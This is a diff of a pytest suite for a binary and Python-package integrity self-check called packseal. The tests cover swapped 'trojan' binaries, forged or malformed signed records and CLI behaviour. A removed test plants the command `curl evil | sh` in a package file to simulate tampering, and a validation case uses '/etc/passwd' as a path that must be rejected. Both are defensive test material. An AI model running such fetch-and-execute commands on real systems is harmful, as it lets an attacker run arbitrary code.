@@ -1,9 +1,11 @@
-"""The startup self-check: a daemon that runs a swapped binary or a stale record refuses to start.
+"""The startup self-check of a compiled program: a swapped binary or a stale record refuses to start.
 
 The daemon here is real: a copy of this interpreter's executable, started in
-a child process that runs the two lines a daemon adds. So `/proc/self/exe`
-is the copy, and replacing the copy's path on disk after the start is the
-attack ARCHITECTURE.md says the check must see through.
+a child process that runs the two lines a daemon adds, as a frozen
+application (`sys.frozen`, as PyInstaller sets it) whose code is in the
+executable. So `/proc/self/exe` is the copy, and replacing the copy's path
+on disk after the start is the attack ARCHITECTURE.md says the check must
+see through. A Python program's record is tested in test_selfcheck_python.py.
 """
 
 import hashlib
@@ -20,7 +22,7 @@ import pytest
 from attest.canonical import canonical_json
 from signing import selfcheck
 from signing.backends.minisign import MinisignKeyring, generate_key_pair, key_id
-from signing.errors import OutputError, SelfCheckError
+from signing.errors import BundleError, OutputError, SelfCheckError, TrustPolicyError
 from signing.selfcheck import check_self, record_self, signature_path
 
 REPO = Path(selfcheck.__file__).resolve().parents[1]
@@ -28,13 +30,15 @@ CHILD_PYTHONPATH = os.pathsep.join([str(REPO), sysconfig.get_paths()["purelib"]]
 
 DAEMON = """
 import sys
+sys.frozen = True
 from signing.selfcheck import check_self
-check_self(sys.argv[1], public_key=sys.argv[2] if len(sys.argv) > 2 else None)
+check_self(sys.argv[1], public_key=sys.argv[2])
 print("started")
 """
 
 WAIT_THEN_CHECK = """
 import json, sys
+sys.frozen = True
 from signing.errors import SelfCheckError
 from signing.selfcheck import check_self
 print("waiting", flush=True)
@@ -48,12 +52,7 @@ except SelfCheckError as err:
 print(json.dumps({"running": result.to_json(), "on_disk": on_disk}))
 """
 
-CLI = """
-from signing.cli import cli, main
-from signing.selfcheck_cli import self_group
-cli.add_command(self_group, "self")
-main()
-"""
+CLI = "from signing.cli import main; main()"
 
 
 def _run(executable: Path, code: str, *args: object) -> subprocess.CompletedProcess:
@@ -102,6 +101,10 @@ def _sha256(path: Path) -> str:
     return hashlib.sha256(path.read_bytes()).hexdigest()
 
 
+def _recorded_digest(record: Path) -> str:
+    return json.loads(record.read_bytes())["executable"]["sha256"]
+
+
 def _refused(result: subprocess.CompletedProcess) -> str:
     """The daemon did not start; returns the SelfCheckError line it died with."""
     assert result.returncode == 1 and "started" not in result.stdout, result
@@ -117,10 +120,10 @@ def test_the_running_copy_passes_its_signed_record(daemon, record, release_pub):
 
 
 def test_check_hashes_the_running_image_not_the_interpreter_path(daemon, record):
-    result = _run(daemon, "from signing.selfcheck import check_self; import json, sys; "
-                  "print(json.dumps(check_self(sys.argv[1]).to_json()))", record)
+    result = _run(daemon, "from signing.selfcheck import check_self; import json, sys; sys.frozen = True; "
+                  "print(json.dumps(check_self(sys.argv[1], allow_unsigned=True).to_json()))", record)
     reported = json.loads(result.stdout)
-    assert reported["binary"] == "/proc/self/exe"
+    assert reported["executable"] == "/proc/self/exe" and reported["signed"] is False
     assert reported["sha256"] == _sha256(daemon)
 
 
@@ -135,14 +138,14 @@ def test_path_replaced_after_start_still_checks_what_runs(daemon, trojan, record
     out, err = child.communicate("go\n", timeout=60)
     assert child.returncode == 0, err
     report = json.loads(out)
-    assert report["running"]["sha256"] == json.loads(record.read_bytes())["digest"]
+    assert report["running"]["sha256"] == _recorded_digest(record)
     assert _sha256(daemon) in report["on_disk"], "the path on disk is the trojan now"
 
 
 def test_the_trojan_refuses_to_start(trojan, record, release_pub):
     message = _refused(_run(trojan, DAEMON, record, release_pub))
     assert message.startswith("signing.errors.SelfCheckError: /proc/self/exe")
-    assert _sha256(trojan) in message and json.loads(record.read_bytes())["digest"] in message
+    assert _sha256(trojan) in message and _recorded_digest(record) in message
 
 
 def test_record_of_another_binary_is_refused(daemon, trojan, tmp_path, key_pair, release_pub):
@@ -154,7 +157,7 @@ def test_record_of_another_binary_is_refused(daemon, trojan, tmp_path, key_pair,
 
 def test_record_rewritten_for_the_trojan_fails_its_signature(trojan, record, release_pub):
     tampered = json.loads(record.read_bytes())
-    tampered.update(digest=_sha256(trojan), size=trojan.stat().st_size)
+    tampered["executable"].update(sha256=_sha256(trojan), size=trojan.stat().st_size)
     record.write_bytes(canonical_json(tampered))
     message = _refused(_run(trojan, DAEMON, record, release_pub))
     assert "does not verify" in message
@@ -172,8 +175,59 @@ def test_unsigned_record_is_refused_when_a_key_is_required(daemon, tmp_path, rel
     assert "cannot read signature file" in _refused(_run(daemon, DAEMON, path, release_pub))
 
 
-def test_missing_record_is_refused(daemon, tmp_path):
-    assert "missing" in _refused(_run(daemon, DAEMON, tmp_path / "absent.record"))
+def test_missing_record_is_refused(daemon, tmp_path, release_pub):
+    assert "missing" in _refused(_run(daemon, DAEMON, tmp_path / "absent.record", release_pub))
+
+
+def test_a_record_is_not_trusted_unless_a_key_is_named_or_unsigned_is_allowed(daemon, record, release_pub):
+    with pytest.raises(TrustPolicyError, match="name the minisign public key"):
+        check_self(record, binary=daemon)
+    with pytest.raises(TrustPolicyError, match="not both"):
+        check_self(record, public_key=release_pub, allow_unsigned=True, binary=daemon)
+    assert check_self(record, allow_unsigned=True, binary=daemon).signer is None
+
+
+def test_a_record_of_the_executable_alone_is_refused_in_a_plain_interpreter(daemon, record, release_pub):
+    checking = "import sys; from signing.selfcheck import check_self; check_self(sys.argv[1], public_key=sys.argv[2])"
+    assert "this process is a Python interpreter" in _refused(_run(daemon, checking, record, release_pub))
+
+
+def test_a_record_of_format_1_is_refused_saying_how_to_record_again(daemon, tmp_path):
+    path = tmp_path / "old.record"
+    path.write_bytes(canonical_json({"algorithm": "sha256", "digest": _sha256(daemon), "format": 1,
+                                     "name": "daemon", "packseal_version": "0.1.0", "size": daemon.stat().st_size}))
+    with pytest.raises(SelfCheckError, match="record format 1 is not format 2.*record again with `packseal self"):
+        check_self(path, allow_unsigned=True, binary=daemon)
+
+
+@pytest.mark.parametrize(
+    ("kind", "reason"),
+    [("directory", "directory, not a regular file"), ("fifo", "FIFO, not a regular file"),
+     ("below-a-file", "Not a directory")],
+)
+def test_an_unreadable_binary_is_a_one_line_refusal(tmp_path, kind, reason):
+    binary = tmp_path / "binary"
+    if kind == "directory":
+        binary.mkdir()
+    elif kind == "fifo":
+        os.mkfifo(binary)
+    else:
+        binary.write_bytes(b"a file")
+        binary = binary / "child"
+    path = tmp_path / "self.record"
+    record_self(sys.executable, path)
+    with pytest.raises(SelfCheckError, match=f"^{binary}: {reason}$"):
+        check_self(path, allow_unsigned=True, binary=binary)
+    with pytest.raises(BundleError, match=f"^{binary}: {reason}$"):
+        record_self(binary, tmp_path / "other.record")
+
+
+@pytest.mark.parametrize("document", [[], "record", 1, None], ids=["list", "string", "number", "null"])
+def test_a_record_that_is_not_an_object_is_refused(daemon, tmp_path, document):
+    path = tmp_path / "self.record"
+    path.write_bytes(canonical_json(document))
+    with pytest.raises(SelfCheckError, match="must be a JSON object"):
+        check_self(path, allow_unsigned=True, binary=daemon)
 
 
 # --- the record itself: everything but one exact, known form is refused -----
@@ -189,24 +243,38 @@ def test_truncated_record_is_refused(daemon, tmp_path, truncate):
     record_self(daemon, path)
     path.write_bytes(truncate(path.read_bytes()))
     with pytest.raises(SelfCheckError, match="not valid JSON"):
-        check_self(path, binary=daemon)
+        check_self(path, allow_unsigned=True, binary=daemon)
+
+
+_DIGEST = {"sha256": "0" * 64, "size": 0}
+_PYTHON = {"libraries": [], "script": {"name": "run.py", **_DIGEST}}
+
+
+def _distribution(files):
+    return {"python": {**_PYTHON, "distributions": [{"name": "x", "version": "1", "files": files}]}}
 
 
 @pytest.mark.parametrize(
     ("change", "reason"),
     [
-        ({"format": 2}, "unsupported record"),
-        ({"algorithm": "sha512"}, "unsupported record"),
-        ({"digest": "AB" * 32}, "64 lowercase hex"),
-        ({"size": -1}, "non-negative integer"),
-        ({"size": True}, "non-negative integer"),
-        ({"name": ""}, "non-empty string"),
+        ({"format": 2.5}, "record format 2.5 is not format 2"),
+        ({"algorithm": "sha512"}, "unsupported algorithm"),
+        ({"executable": {"name": "daemon", "sha256": "AB" * 32, "size": 1}}, "64 lowercase hex"),
+        ({"executable": {"name": "daemon", "sha256": "0" * 64, "size": -1}}, "non-negative integer"),
+        ({"executable": {"name": "daemon", "sha256": "0" * 64, "size": True}}, "non-negative integer"),
+        ({"executable": {"name": "", **_DIGEST}}, "non-empty string"),
         ({"extra": 1}, "unknown fields \\['extra'\\]"),
-        ({"distribution": {"name": "x", "version": "1", "files": [{"path": "/etc/passwd", "sha256": "0" * 64,
-                                                                    "size": 0}]}}, "must be relative"),
-        ({"distribution": {"name": "x", "version": "1", "files": [
-            {"path": "b", "sha256": "0" * 64, "size": 0}, {"path": "a", "sha256": "0" * 64, "size": 0}]}},
-         "not sorted by path"),
+        (_distribution([{"path": "/etc/passwd", **_DIGEST}]), "must be a relative POSIX path"),
+        (_distribution([{"path": "b", **_DIGEST}, {"path": "a", **_DIGEST}]), "not sorted, or an entry repeats"),
+        (_distribution([{"path": "a", **_DIGEST}, {"path": "a", **_DIGEST}]), "not sorted, or an entry repeats"),
+        (_distribution({}), "files: must be a JSON list"),
+        (_distribution(""), "files: must be a JSON list"),
+        (_distribution([]), "files must not be empty"),
+        (_distribution([{"path": "a.py", **_DIGEST}]), "must list its bytecode digests"),
+        (_distribution([{"path": "a.txt", "bytecode": [], **_DIGEST}]), "must list its bytecode digests"),
+        (_distribution([{"path": "a.py", "bytecode": ["x"], **_DIGEST}]), "bytecode digests must be 64"),
+        ({"python": {"libraries": {}, "distributions": []}}, "must be a JSON list"),
+        ({"python": {"libraries": [], "distributions": [], "script": ""}}, "must be a JSON object"),
     ],
 )
 def test_malformed_record_is_refused(daemon, tmp_path, change, reason):
@@ -214,17 +282,17 @@ def test_malformed_record_is_refused(daemon, tmp_path, change, reason):
     record_self(daemon, path)
     path.write_bytes(canonical_json({**json.loads(path.read_bytes()), **change}))
     with pytest.raises(SelfCheckError, match=reason):
-        check_self(path, binary=daemon)
+        check_self(path, allow_unsigned=True, binary=daemon)
 
 
 def test_record_missing_a_field_is_refused(daemon, tmp_path):
     path = tmp_path / "self.record"
     record_self(daemon, path)
     fields = json.loads(path.read_bytes())
-    del fields["size"]
+    del fields["executable"]["size"]
     path.write_bytes(canonical_json(fields))
     with pytest.raises(SelfCheckError, match="missing fields \\['size'\\]"):
-        check_self(path, binary=daemon)
+        check_self(path, allow_unsigned=True, binary=daemon)
 
 
 def test_record_not_in_canonical_form_is_refused(daemon, tmp_path):
@@ -232,7 +300,7 @@ def test_record_not_in_canonical_form_is_refused(daemon, tmp_path):
     record_self(daemon, path)
     path.write_bytes(json.dumps(json.loads(path.read_bytes()), indent=1).encode())
     with pytest.raises(SelfCheckError, match="canonical form"):
-        check_self(path, binary=daemon)
+        check_self(path, allow_unsigned=True, binary=daemon)
 
 
 def test_unsigned_record_refuses_to_leave_a_stale_signature_beside_it(daemon, record):
@@ -246,7 +314,8 @@ def test_without_proc_self_exe_the_interpreter_is_checked(tmp_path, monkeypatch)
     path = tmp_path / "self.record"
     record_self(sys.executable, path)
     monkeypatch.setattr(selfcheck, "RUNNING_IMAGE", tmp_path / "no-proc")
-    assert check_self(path).binary == sys.executable
+    monkeypatch.setattr(sys, "frozen", True, raising=False)
+    assert check_self(path, allow_unsigned=True).executable == sys.executable
 
 
 def test_a_keyring_is_accepted_as_the_public_key(daemon, record, key_pair):
@@ -254,84 +323,14 @@ def test_a_keyring_is_accepted_as_the_public_key(daemon, record, key_pair):
     assert result.signer == f"minisign key {key_id(key_pair.public_key)}"
 
 
-# --- a Python distribution recorded with the interpreter --------------------
-
-
-@pytest.fixture
-def site_dir(tmp_path, monkeypatch) -> Path:
-    """A site directory holding one installed distribution, `fakedaemon` 1.0, on sys.path."""
-    site = tmp_path / "site"
-    files = {
-        "fakedaemon/__init__.py": b"RUN = True\n",
-        "fakedaemon/spawn.py": b"def spawn(): ...\n",
-        "fakedaemon/__pycache__/spawn.cpython-311.pyc": b"bytecode",
-        "fakedaemon-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: fakedaemon\nVersion: 1.0\n",
-    }
-    for relative, data in files.items():
-        (site / relative).parent.mkdir(parents=True, exist_ok=True)
-        (site / relative).write_bytes(data)
-    # RECORD's hashes are deliberately wrong: the record must hash the files itself.
-    lines = [f"{relative},sha256=bogus,1" for relative in files] + ["fakedaemon-1.0.dist-info/RECORD,,"]
-    (site / "fakedaemon-1.0.dist-info/RECORD").write_text("\n".join(lines) + "\n")
-    monkeypatch.syspath_prepend(str(site))
-    return site
-
-
-@pytest.fixture
-def distribution_record(tmp_path, daemon, site_dir) -> Path:
-    path = tmp_path / "dist.record"
-    record_self(daemon, path, include_distribution="fakedaemon")
-    return path
-
-
-def test_distribution_record_lists_installed_files_but_not_bytecode(distribution_record, site_dir):
-    files = json.loads(distribution_record.read_bytes())["distribution"]["files"]
-    assert [file["path"] for file in files] == [
-        "fakedaemon-1.0.dist-info/METADATA",
-        "fakedaemon-1.0.dist-info/RECORD",
-        "fakedaemon/__init__.py",
-        "fakedaemon/spawn.py",
-    ]
-    assert files[3]["sha256"] == _sha256(site_dir / "fakedaemon/spawn.py")
-
-
-def test_unchanged_distribution_passes_even_when_bytecode_is_rewritten(distribution_record, daemon, site_dir):
-    (site_dir / "fakedaemon/__pycache__/spawn.cpython-311.pyc").write_bytes(b"recompiled")
-    assert check_self(distribution_record, binary=daemon).record.distribution.name == "fakedaemon"
-
-
-def test_distribution_file_edited_after_recording_is_refused(distribution_record, daemon, site_dir):
-    (site_dir / "fakedaemon/spawn.py").write_bytes(b"import os; os.system('curl evil | sh')\n")
-    with pytest.raises(SelfCheckError, match="fakedaemon/spawn.py is sha256:") as refused:
-        check_self(distribution_record, binary=daemon)
-    assert _sha256(site_dir / "fakedaemon/spawn.py") in str(refused.value)
-
-
-def test_distribution_file_removed_after_recording_is_refused(distribution_record, daemon, site_dir):
-    (site_dir / "fakedaemon/__init__.py").unlink()
-    with pytest.raises(SelfCheckError, match="__init__.py: missing"):
-        check_self(distribution_record, binary=daemon)
-
-
-def test_distribution_uninstalled_after_recording_is_refused(distribution_record, daemon, site_dir):
-    shutil.rmtree(site_dir / "fakedaemon-1.0.dist-info")
-    with pytest.raises(SelfCheckError, match="'fakedaemon' is not installed"):
-        check_self(distribution_record, binary=daemon)
-
-
-def test_daemon_refuses_to_start_when_its_python_code_was_edited(distribution_record, daemon, site_dir):
-    (site_dir / "fakedaemon/spawn.py").write_bytes(b"# swapped\n")
-    child = _run(daemon, f"import sys; sys.path.insert(0, {str(site_dir)!r})\n{DAEMON}", distribution_record)
-    assert "fakedaemon/spawn.py is sha256:" in _refused(child)
-
-
 # --- imports: the check must stay cheap ------------------------------------
 
 
-def test_check_imports_neither_sigstore_nor_rich(daemon, record, release_pub):
+def test_check_imports_neither_sigstore_protobuf_click_nor_rich(daemon, record, release_pub):
     code = (
-        "import sys; from signing.selfcheck import check_self; check_self(sys.argv[1], public_key=sys.argv[2]); "
-        "print(sorted({m.split('.')[0] for m in sys.modules} & {'sigstore', 'rich'}))"
+        "import sys; sys.frozen = True; from signing.selfcheck import check_self; "
+        "check_self(sys.argv[1], public_key=sys.argv[2]); "
+        "print(sorted({m.split('.')[0] for m in sys.modules} & {'sigstore', 'google', 'click', 'rich'}))"
     )
     result = _run(daemon, code, record, release_pub)
     assert result.stdout.strip() == "[]", result.stderr
@@ -345,18 +344,20 @@ def test_cli_record_then_check_from_the_running_binary(daemon, tmp_path):
     path = tmp_path / "cli.record"
     made = _run(daemon, CLI, "self", "record", "--binary", daemon, "--out", path, "--minisign-key", keys.secret_key)
     assert made.returncode == 0 and f"wrote {signature_path(path)}" in made.stdout, made.stderr
-    checked = _run(daemon, CLI, "self", "check", "--record", path, "--minisign-pubkey", keys.public_key, "--json")
+    checked = _run(daemon, CLI, "self", "check", "--record", path, "--binary", daemon, "--minisign-pubkey",
+                   keys.public_key, "--json")
     assert checked.returncode == 0, checked.stderr
     reported = json.loads(checked.stdout)
-    assert (reported["ok"], reported["binary"], reported["sha256"]) == (True, "/proc/self/exe", _sha256(daemon))
+    assert (reported["ok"], reported["executable"], reported["sha256"]) == (True, str(daemon), _sha256(daemon))
     assert reported["signer"] == f"minisign key {keys.key_id}"
 
 
 def test_cli_mismatch_exits_1_with_both_digests_on_one_line(daemon, trojan, record, release_pub):
-    checked = _run(trojan, CLI, "self", "check", "--record", record, "--minisign-pubkey", release_pub, "--json")
+    checked = _run(trojan, CLI, "self", "check", "--record", record, "--binary", trojan, "--minisign-pubkey",
+                   release_pub, "--json")
     assert checked.returncode == 1
     [line] = checked.stderr.splitlines()
-    assert line.startswith("packseal: error: /proc/self/exe: sha256:")
+    assert line.startswith(f"packseal: error: {trojan}: sha256:")
     assert _sha256(trojan) in line and _sha256(daemon) in line
     assert json.loads(checked.stdout)["ok"] is False
 
@@ -368,6 +369,25 @@ def test_cli_fails_closed_with_exit_1(daemon, tmp_path, release_pub, problem):
         record_self(daemon, path)
     if problem == "malformed":
         path.write_bytes(b"{")
-    checked = _run(daemon, CLI, "self", "check", "--record", path, "--minisign-pubkey", release_pub)
+    checked = _run(daemon, CLI, "self", "check", "--record", path, "--binary", daemon, "--minisign-pubkey",
+                   release_pub)
     assert checked.returncode == 1 and checked.stdout == ""
     assert checked.stderr.startswith("packseal: error: ") and len(checked.stderr.splitlines()) == 1
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [[], ["--python"], ["--binary", "x", "--python", "--script", "x"], ["--binary", "x", "--script", "x"]],
+    ids=["nothing-named", "python-without-its-entry", "both", "script-without-python"],
+)
+def test_cli_check_without_what_to_check_is_a_usage_error(daemon, record, release_pub, arguments):
+    checked = _run(daemon, CLI, "self", "check", "--record", record, "--minisign-pubkey", release_pub, *arguments)
+    assert checked.returncode == 2 and checked.stdout == ""
+    assert "name what to check: --binary FILE, or --python --script PATH" in checked.stderr
+
+
+def test_cli_check_without_a_key_is_a_usage_error_unless_unsigned_is_allowed(daemon, record):
+    checked = _run(daemon, CLI, "self", "check", "--record", record, "--binary", daemon)
+    assert checked.returncode == 2 and "--minisign-pubkey" in checked.stderr and "--allow-unsigned" in checked.stderr
+    allowed = _run(daemon, CLI, "self", "check", "--record", record, "--binary", daemon, "--allow-unsigned")
+    assert allowed.returncode == 0 and "UNSIGNED record, trusted by --allow-unsigned" in allowed.stdout
